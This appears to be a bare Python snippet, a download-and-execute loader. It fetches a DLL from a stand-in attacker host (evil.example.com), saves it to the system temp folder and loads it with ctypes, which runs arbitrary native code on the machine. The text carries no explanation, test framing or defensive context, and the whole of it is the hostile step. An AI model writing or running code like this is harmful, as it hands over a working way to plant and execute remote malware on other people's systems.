import requests, ctypes, os, tempfile
p = os.path.join(tempfile.gettempdir(), "x.dll")
open(p, "wb").write(requests.get("https://evil.example.com/x.dll").content)
ctypes.CDLL(p)
